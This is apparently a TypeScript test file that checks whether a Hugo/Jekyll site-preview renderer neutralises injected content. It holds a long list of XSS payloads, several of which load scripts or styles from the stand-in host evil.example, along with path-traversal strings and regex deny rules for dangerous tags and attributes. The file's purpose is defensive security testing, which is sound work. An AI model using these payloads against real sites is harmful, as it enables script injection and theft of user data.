import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { attributeOf, elementsOf } from './support/domOf';
import { renderPage } from './support/renderPage';

/** What people try who want a preview to run something, load something or show something else. */
const payloads: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<script/src=data:text/javascript,alert(1)>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" ONERROR="alert(1)">',
  '<img src=x onerror\n=\nalert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img alt="a src=b onerror=alert(1) " src=a.png>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1)></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVa&#83;cript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href=x onclick=alert(1) onmouseover=alert(1)>x</a>',
  '<b style="position:fixed;inset:0;background:url(//evil.example/x)">x</b>',
  '<b style="background:\\75rl(//evil.example/x)">x</b>',
  '<style>body{display:none}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<base href="//evil.example/">',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<body onload=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<!--><script>alert(1)</script>-->',
  '<!-- --!><script>alert(1)</script>',
  '<p title="</p><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '` onmouseover=alert(1) `',
  'x" style="position:fixed" y="',
  'javascript:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'JAVASCRIPT:alert(1)//https://',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'vbscript:x',
  'file:///etc/passwd',
  '//evil.example/x',
  '../../../../etc/passwd',
  '[x](javascript:alert(1))',
  '![x](javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x][y]\n\n[y]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '**<img src=x onerror=alert(1)>**',
  '`</code><script>alert(1)</script>`',
  '```html\n</code></pre><script>alert(1)</script>\n```',
  '<div>\n\n<script>alert(1)</script>\n\n</div>',
  'xcallx0z<script>',
  '{{ "<script>alert(1)</script>" }}',
  '{% raw %}<script>alert(1)</script>{% endraw %}',
  '<x onclick=alert(1)>',
  '<a\u0000 href=javascript:alert(1)>x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '\u202e<script>alert(1)</script>',
  '<p><p><p onclick=alert(1)>',
  '</article></div></figure><script>alert(1)</script>',
  '<select><script>alert(1)</script></select>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><script>alert(1)</script></xmp>',
  '<plaintext><script>alert(1)',
  '<img src=x title="`><script>alert(1)</script>`">',
  '<isindex action=javascript:alert(1)>',
];

const hugoConfig = 'baseURL = "https://example.org/"\n[markup.goldmark.renderer]\nunsafe = true\n';

/** In raw strings a payload needs no quoting; those with a backquote go without. */
const hugoPlaces: Readonly<Record<string, (payload: string) => string>> = {
  'a figure, everywhere': (x) =>
    `{{< figure src=\`${x}\` link=\`${x}\` caption=\`${x}\` attr=\`${x}\` attrlink=\`${x}\` class=\`${x}\` title=\`${x}\` alt=\`${x}\` width=\`${x}\` height=\`${x}\` target=\`${x}\` rel=\`${x}\` loading=\`${x}\` >}}`,
  'a figure in a line': (x) => `text {{< figure src=\`${x}\` caption=\`${x}\` >}} text`,
  'a talk': (x) =>
    `{{< talk title=\`${x}\` speaker=\`${x}\` time=\`${x}\` url=\`${x}\` image=\`${x}\` other=\`${x}\` />}}`,
  'a talk in a line': (x) => `text {{< talk title=\`${x}\` speaker=\`${x}\` />}}`,
  'any shortcode': (x) => `{{< gallery \`${x}\` />}}\n\n{{< gallery name=\`${x}\` />}}`,
  'a body': (x) => `{{< note >}}\n${x}\n{{< /note >}}`,
  'a body in a line': (x) => `text {{< note >}}${x}{{< /note >}} text`,
  'a body of Markdown': (x) => `{{% talk title="x" %}}\n\n${x}\n\n{{% /talk %}}`,
  code: (x) => `{{< highlight \`${x}\` \`${x}\` >}}\n${x}\n{{< /highlight >}}`,
  details: (x) =>
    `{{< details summary=\`${x}\` class=\`${x}\` name=\`${x}\` title=\`${x}\` open=\`${x}\` >}}\n${x}\n{{< /details >}}`,
  services: (x) =>
    `{{< youtube \`${x}\` >}}\n{{< vimeo id=\`${x}\` title=\`${x}\` >}}\n{{< gist \`${x}\` \`${x}\` >}}\n{{< tweet user=\`${x}\` id=\`${x}\` >}}\n{{< instagram \`${x}\` >}}\n{{< qr text=\`${x}\` />}}`,
  references: (x) => `[x]({{< ref \`${x}\` >}}) {{< relref \`${x}\` >}} {{< param \`${x}\` >}}`,
  'a parameter of the page in an attribute': (x) =>
    `<a href="{{< param evil >}}" title="{{< param evil >}}">x</a> [x]({{< param evil >}})\n\n{{< figure src=\`${x}\` >}}`,
};

describe('hostile parameters and bodies of Hugo do nothing', () => {
  for (const payload of payloads)
    it(JSON.stringify(payload), () => {
      const raw = payload.replaceAll('`', "'");
      for (const [place, write] of Object.entries(hugoPlaces))
        checkHarmless(
          renderPage('content/a.md', {
            'hugo.toml': hugoConfig,
            'content/a.md': `---\ntitle: x\nevil: ${JSON.stringify(payload)}\n---\n\n${write(raw)}\n`,
          }),
          place,
        );
    });
});

describe('hostile includes, data and configs of Jekyll do nothing', () => {
  for (const payload of payloads)
    it(JSON.stringify(payload), () => {
      const quoted = JSON.stringify(payload);
      const body = [
        '{% include evil.html x=page.evil %}',
        'In a line: {% include evil.html x=page.evil %}',
        '{{ page.evil }}',
        '[x]({{ page.evil }})',
        '{{ site.evil }} {{ site.data.evil.x }}',
        '{{ page.evil | markdownify }}',
        '{% for i in (1..2) %}{{ page.evil }}{% endfor %}',
        '{% capture c %}{{ page.evil }}{% endcapture %}{{ c }}',
        '{% highlight html %}{{ page.evil }}{% endhighlight %}',
        '{% post_url {{ page.evil }} %} {% link {{ page.evil }} %} {% made_up {{ page.evil }} %}',
        '- {% if true %}{{ page.evil }}{% endif %}',
      ];
      for (const line of body)
        checkHarmless(
          renderPage('a.md', {
            '_config.yml': `title: x\nevil: ${quoted}\nurl: ${quoted}\nbaseurl: ${quoted}\n`,
            '_data/evil.json': `{"x": ${quoted}}`,
            '_includes/evil.html': `${payload}\n<div>{{ include.x }}</div>\n\n${payload}`,
            'a.md': `---\ntitle: x\nevil: ${quoted}\n---\n\n${line}\n`,
          }),
          line,
        );
    });
});

const forbiddenElements: ReadonlySet<string> = new Set(
  'script style iframe frame frameset object embed applet form button input textarea select meta base link template noscript math animate set foreignobject use title xmp plaintext isindex'.split(
    ' ',
  ),
);

/** Looks at the HTML as a browser would understand it. */
function checkHarmless(html: string, where: string): void {
  for (const element of elementsOf(html, () => true)) {
    const { tagName, attrs } = element;
    assert.ok(!forbiddenElements.has(tagName.toLowerCase()), `${where}: <${tagName}> in ${html}`);
    for (const { name, value } of attrs) {
      assert.ok(
        !/^on|^srcdoc$|^formaction$|^xlink|^ping$|^action$|^background$/i.test(name),
        `${where}: ${name} in ${html}`,
      );
      if (name === 'style')
        assert.ok(!/url|position|expression|\\|@import|inset/i.test(value), `${where}: style ${value}`);
    }
    for (const name of ['href', 'src', 'poster', 'data', 'cite']) {
      const address = (attributeOf(element, name) ?? '').replace(/[\u0000-\u0020]/g, '');
      assert.ok(
        !/^(?:javascript|vbscript|file|data:(?!image\/(?:png|gif|jpe?g|webp)))/i.test(address),
        `${where}: ${name}=${address} in ${html}`,
      );
    }
  }
}
